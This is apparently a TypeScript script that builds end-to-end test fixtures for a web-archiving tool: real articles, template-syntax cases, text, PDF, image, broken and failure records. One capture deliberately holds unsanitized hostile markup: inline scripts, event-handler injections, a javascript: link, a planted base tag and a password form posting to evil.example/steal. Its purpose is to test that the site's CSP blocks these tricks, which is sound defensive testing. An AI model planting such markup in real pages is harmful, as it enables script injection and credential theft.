/**
 * Writes test/fixtures/cache/: the captures the e2e tests build a site from. Run `npx tsx tools/make-fixture-cache.ts`
 * after changing it. Real pages from test/fixtures/readability-pages go through the archiver's own stages (decode,
 * extract, sanitize, word count), as if none of their remote images could be fetched; the rest are made by hand to
 * show one thing each: template syntax, a hostile body as if sanitizing had failed, text, pdf, image, broken front
 * matter, failure records and a work folder the site must ignore.
 */
import { mkdir, rm, writeFile } from "node:fs/promises";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { renderCaptureFile } from "../src/cache/capture-file.ts";
import sharp from "sharp";
import type { CaptureMeta, FailureRecord } from "../src/cache/types.ts";
import { decodeHtml } from "../src/archive/parse/decode.ts";
import { extractArticle } from "../src/archive/parse/extract.ts";
import { hashUrl } from "../src/cache/layout.ts";
import { countWords, sanitizeArticle } from "../src/archive/sanitize.ts";
import { readSource } from "./readability-pages.ts";

const ROOT = fileURLToPath(new URL("../", import.meta.url));
const CACHE = path.join(ROOT, "test/fixtures/cache");

const words = (html: string): number => countWords(html);
const sha256 = async (text: string): Promise<string> => (await import("node:crypto")).createHash("sha256").update(text).digest("hex");

function meta(url: string, fields: Partial<CaptureMeta> & Pick<CaptureMeta, "title" | "archived_at" | "kind">): CaptureMeta {
  return {
    url,
    hash_url: hashUrl(url),
    final_url: url,
    status: "captured",
    content_type: "text/html",
    http_status: 200,
    word_count: 0,
    images: 0,
    images_failed: 0,
    content_sha256: "",
    archiver: "fixture",
    ...fields,
  };
}

/**
 * Writes a capture as the archiver would: its body through the sanitizer, last, so it passes verify. `unsanitized`
 * stores the body as given, for the one capture that plays a sanitizer that let everything through.
 */
async function writeCapture(m: CaptureMeta, given: string, files: Record<string, Buffer> = {}, { unsanitized = false } = {}): Promise<string> {
  const dir = path.join(CACHE, m.hash_url);
  await mkdir(dir, { recursive: true });
  const body = unsanitized ? given : sanitizeArticle(given, { baseUrl: m.final_url });
  await writeFile(path.join(dir, "index.html"), renderCaptureFile({ ...m, content_sha256: await sha256(body) }, body));
  for (const [name, content] of Object.entries(files)) await writeFile(path.join(dir, name), content);
  return m.hash_url;
}

/**
 * The archiver's stages over a real page served from `url`, images dropped as when none could be fetched (an <img>
 * without a local file keeps only its alt text, as sanitizeArticle does).
 */
async function realPage(name: string, url: string): Promise<{ title: string; byline?: string; siteName?: string; lang?: string; dir?: "ltr" | "rtl"; excerpt?: string; html: string; words: number }> {
  const { html: source } = decodeHtml(readSource(name), "utf-8");
  const article = extractArticle(source, url);
  if (!article.readerable) throw new Error(`Readability found no article in ${name}`);
  const html = sanitizeArticle(article.html, { baseUrl: url });
  return { ...article, html, words: countWords(html) };
}

/** A small raster image made by sharp, stored as WebP like the archiver does. */
async function testImage(width: number, height: number, hue: number): Promise<Buffer> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <defs><linearGradient id="g" x1="0" y1="0" x2="1" y2="1"><stop offset="0" stop-color="hsl(${hue},70%,55%)"/><stop offset="1" stop-color="hsl(${hue + 60},70%,35%)"/></linearGradient></defs>
    <rect width="100%" height="100%" fill="url(#g)"/><circle cx="${width / 2}" cy="${height / 2}" r="${height / 4}" fill="rgba(255,255,255,.35)"/></svg>`;
  return sharp(Buffer.from(svg)).webp({ quality: 70 }).toBuffer();
}

/** The smallest well-formed one-page PDF that says something. */
function tinyPdf(text: string): Buffer {
  const stream = `BT /F1 18 Tf 72 720 Td (${text}) Tj ET`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let pdf = "%PDF-1.4\n";
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(pdf.length);
    pdf += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = pdf.length;
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`;
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(pdf, "latin1");
}

await rm(CACHE, { recursive: true, force: true });
await mkdir(CACHE, { recursive: true });

// Real articles.
{
  const url = "https://arstechnica.com/security/2015/05/just-released-minecraft-exploit-makes-it-easy-to-crash-game-servers/";
  const page = await realPage("ars-1", url);
  const image = await testImage(640, 360, 200);
  const imageName = `${hashUrl("fixture-image-ars")}.webp`;
  const html = `<figure><img src="${imageName}" width="640" height="360" alt="A blue gradient test pattern"><figcaption>A test image stored beside the capture.</figcaption></figure>\n${page.html}`;
  await writeCapture(
    meta(url, { kind: "article", title: page.title, byline: page.byline, site_name: page.siteName, lang: page.lang, excerpt: page.excerpt, published_at: "2015-05-15T15:30:00Z", archived_at: "2025-11-20T10:00:00Z", word_count: words(html), images: 1 }),
    html,
    { [imageName]: image },
  );
}
for (const [name, url, archived_at] of [
  ["wikipedia", "https://en.wikipedia.org/wiki/Mozilla", "2025-11-19T10:00:00Z"],
  ["keep-tabular-data", "https://www.factorio.com/blog/post/fff-282", "2025-11-18T10:00:00Z"],
  ["rtl-1", "https://example.org/rtl-test", "2025-11-17T10:00:00Z"],
] as const) {
  const page = await realPage(name, url);
  await writeCapture(
    meta(url, { kind: "article", title: page.title, byline: page.byline, site_name: page.siteName, lang: page.lang ?? (page.dir === "rtl" ? "ar" : undefined), dir: page.dir, excerpt: page.excerpt, archived_at, word_count: page.words }),
    page.html,
  );
}

// Template syntax in title, byline and body must show literally.
await writeCapture(
  meta("https://blog.example.com/template-syntax", {
    kind: "article",
    title: "Template syntax {{ 7 * 7 }} & <b>tags</b> in a title",
    byline: "Ada <Lovelace> & {{ author }}",
    site_name: "Example Blog",
    lang: "en",
    excerpt: "Curly braces, percent signs and stars that no engine may evaluate.",
    archived_at: "2025-11-16T10:00:00Z",
    word_count: 60,
  }),
  `<p>Nunjucks would print {{ 7 * 7 }} as a number; here it must stay exactly as typed.</p>
<p>A Liquid block: {% raw %}this stays{% endraw %}, an include {% include "secret.njk" %} and a comment {# hidden? #}.</p>
<p>Markdown *stars* and _underscores_ stay plain characters, and so does [a link](https://example.com).</p>
<pre><code>{{ page.url }} {{ site | dump }} \${process.env.HOME}</code></pre>
<p>The word quetzalcoatlus appears only in this capture, for the search test.</p>`,
);

// As if sanitizing had failed: every trick must be stopped by the CSP (or be inert).
await writeCapture(
  meta("https://evil.example/hostile", { kind: "page", title: "Hostile capture", site_name: "Evil", archived_at: "2025-11-15T10:00:00Z", word_count: 40 }),
  `<p>This capture carries script and event handlers, as if the sanitizer had let them through.</p>
<script>window.pwned = "inline script"; document.title = "pwned";</script>
<script src="https://evil.example/remote.js"></script>
<img src="https://evil.example/missing.png" alt="broken" onerror="window.pwned = 'onerror'; document.title = 'pwned';">
<img src="https://evil.example/tracker.gif" alt="tracker">
<svg onload="window.pwned = 'svg onload'"><circle r="5"></circle></svg>
<div onmouseover="window.pwned = 'mouseover'">Hover me</div>
<a id="js-link" href="javascript:window.pwned='javascript: url'">a javascript: link</a>
<iframe src="https://evil.example/frame" title="frame"></iframe>
<object data="https://evil.example/flash.swf"></object>
<style>body { background: url(https://evil.example/style-bg.png); }</style>
<link rel="stylesheet" href="https://evil.example/evil.css">
<base href="https://evil.example/">
<form action="https://evil.example/steal" method="post"><label>Password <input name="p" type="password"></label><button id="steal">Send</button></form>
<p><a id="relative-after-base" href="relative-link">a relative link after a planted base</a></p>`,
  {},
  { unsanitized: true },
);

// A text/plain capture: preformatted, with a line far wider than a phone.
await writeCapture(
  meta("https://www.rfc-editor.org/rfc/rfc-fixture.txt", { kind: "text", title: "rfc-fixture.txt", content_type: "text/plain", archived_at: "2025-11-14T10:00:00Z", word_count: 45 }),
  `<pre>Network Working Group                                              Fixture
Request for Comments: 0000                                        Example
${"-".repeat(180)}
A plain text capture keeps its line breaks. This line is deliberately very long so that it must scroll inside its own box rather than widen the page on a phone.
The word zeugma appears here.
</pre>`,
);

// A PDF and an image, each stored beside index.html.
await writeCapture(
  meta("https://example.org/papers/fixture.pdf", { kind: "pdf", title: "A fixture paper (PDF)", content_type: "application/pdf", file: "document.pdf", excerpt: "A one-page PDF made by the fixture script.", archived_at: "2025-11-13T10:00:00Z" }),
  "",
  { "document.pdf": tinyPdf("A fixture PDF") },
);
{
  const name = `${hashUrl("fixture-image-capture")}.webp`;
  await writeCapture(
    meta("https://images.example.net/photo.png", { kind: "image", title: "photo.png", content_type: "image/png", file: name, archived_at: "2025-11-12T10:00:00Z", images: 1 }),
    "",
    { [name]: await testImage(1200, 800, 30) },
  );
}

// A second capture from arstechnica.com (kind page), for the per-site page.
await writeCapture(
  meta("https://arstechnica.com/about-us/", { kind: "page", title: "About Ars Technica", site_name: "Ars Technica", archived_at: "2025-11-11T10:00:00Z", word_count: 30, excerpt: "Who we are." }),
  "<h2>About us</h2><p>Ars Technica has been serving the needs of technology enthusiasts since 1998. This is a hand-made page capture.</p>",
);

// Broken captures: reported with their folder and left out.
{
  const dir = path.join(CACHE, hashUrl("https://broken.example/bad-yaml"));
  await mkdir(dir, { recursive: true });
  await writeFile(path.join(dir, "index.html"), `---\ntitle: [unclosed\nurl: https://broken.example/bad-yaml\n---\n<p>BROKEN-CAPTURE-BODY</p>\n`);
  const dir2 = path.join(CACHE, hashUrl("https://broken.example/missing-fields"));
  await mkdir(dir2, { recursive: true });
  await writeFile(path.join(dir2, "index.html"), `---\ntitle: Missing fields\nkind: video\n---\n<p>BROKEN-CAPTURE-BODY</p>\n`);
}

// A work folder of an interrupted run: not a capture, never reported.
await mkdir(path.join(CACHE, ".tmp-0123abcd"), { recursive: true });
await writeFile(path.join(CACHE, ".tmp-0123abcd", "index.html"), "---\ntitle: half written\n");

// Failure records: one never captured, one whose earlier capture was kept.
await mkdir(path.join(CACHE, "_failures"), { recursive: true });
const failures: FailureRecord[] = [
  { url: "https://gone.example/dead-link", hash_url: hashUrl("https://gone.example/dead-link"), line: 7, code: "ARCHIVE_HTTP_STATUS", reason: "HTTP 404 Not Found <after 2 redirects>", first_failed_at: "2025-11-10T10:00:00Z", last_failed_at: "2025-11-20T11:00:00Z", attempts: 3, kept_previous: false },
  { url: "https://en.wikipedia.org/wiki/Mozilla", hash_url: hashUrl("https://en.wikipedia.org/wiki/Mozilla"), line: 3, code: "ARCHIVE_FETCH_TIMEOUT", reason: "no response headers within 15 s", first_failed_at: "2025-11-19T12:00:00Z", last_failed_at: "2025-11-19T12:00:00Z", attempts: 1, kept_previous: true },
];
for (const record of failures) await writeFile(path.join(CACHE, "_failures", `${record.hash_url}.json`), `${JSON.stringify(record, null, 2)}\n`);

console.log(`Wrote ${CACHE}`);
